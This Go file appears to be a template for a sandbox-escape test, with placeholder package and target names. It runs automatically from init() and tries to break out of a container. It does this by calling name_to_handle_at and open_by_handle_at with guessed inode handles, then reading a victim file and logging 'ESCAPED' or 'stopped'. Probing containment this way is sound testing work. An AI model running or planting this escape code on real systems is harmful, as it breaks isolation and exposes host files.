package PACKAGE_NAME

import (
	"encoding/binary"
	"log"
	"os"
	"syscall"
	"unsafe"
)

const (
	nameToHandleAt = 303
	openByHandleAt = 304
)

// handle is that of an inode, as most file systems make them: its number and its generation.
type handle struct {
	bytes uint32
	kind  int32
	inode [8]byte
}

func init() {
	var seen handle
	seen.bytes = 8
	mount := int32(0)
	root, _ := syscall.BytePtrFromString("/")
	const cwd = ^uintptr(99) // AT_FDCWD
	_, _, errno := syscall.Syscall6(nameToHandleAt, cwd, uintptr(unsafe.Pointer(root)),
		uintptr(unsafe.Pointer(&seen)), uintptr(unsafe.Pointer(&mount)), 0, 0)
	handled("name_to_handle_at /", errno)
	for _, path := range []string{"/", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/work", "/proc/self/exe"} {
		start, err := os.Open(path)
		if err != nil {
			continue
		}
		for _, inode := range []uint64{1, 2, 128} {
			guess := handle{bytes: 8, kind: 1}
			binary.NativeEndian.PutUint64(guess.inode[:], inode)
			_, _, errno := syscall.Syscall(openByHandleAt, start.Fd(), uintptr(unsafe.Pointer(&guess)), syscall.O_RDONLY)
			handled("open_by_handle_at "+path, errno)
		}
		_ = start.Close()
	}
	if content, err := os.ReadFile("VICTIM_FILE"); err == nil {
		log.Printf("ESCAPED: %s", content)
	}
}

func handled(what string, errno syscall.Errno) {
	if errno == 0 || errno == syscall.ESTALE {
		log.Printf("ESCAPED: %s: %v", what, errno)
		return
	}
	log.Printf("stopped: %s: %v", what, errno)
}
